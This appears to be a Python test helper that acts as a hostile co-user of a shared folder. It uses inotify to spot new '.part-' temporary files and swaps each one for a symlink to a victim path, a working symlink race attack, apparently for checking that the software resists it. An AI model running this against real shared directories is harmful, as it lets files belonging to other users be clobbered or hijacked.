# Retrograde
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Another user of a shared folder: as soon as a temporary file appears in it, a link takes the
place of its name. usage: exchange_part.py FOLDER VICTIM

Says "ready" when it watches, and ends with its parent."""

import ctypes
import os
import struct
import sys

IN_CREATE = 0x100
EVENT = struct.Struct("iIII")

folder, victim = (os.fsencode(word) for word in sys.argv[1:])
libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init()
assert libc.inotify_add_watch(watch, folder, IN_CREATE) >= 0
parent = os.getppid()
os.set_blocking(watch, False)
print("ready", flush=True)
# it does not wait in the kernel: the one who is attacked is quick
while os.getppid() == parent:
    try:
        events = os.read(watch, 4096)
    except BlockingIOError:
        continue
    while events:
        _, _, _, length = EVENT.unpack_from(events)
        name = events[EVENT.size : EVENT.size + length].rstrip(b"\0")
        events = events[EVENT.size + length :]
        if b".part-" not in name:
            continue
        for _ in range(2000):
            try:
                os.unlink(folder + b"/" + name)
            except FileNotFoundError:
                pass
            try:
                os.symlink(victim, folder + b"/" + name)
                break
            except FileExistsError:
                pass
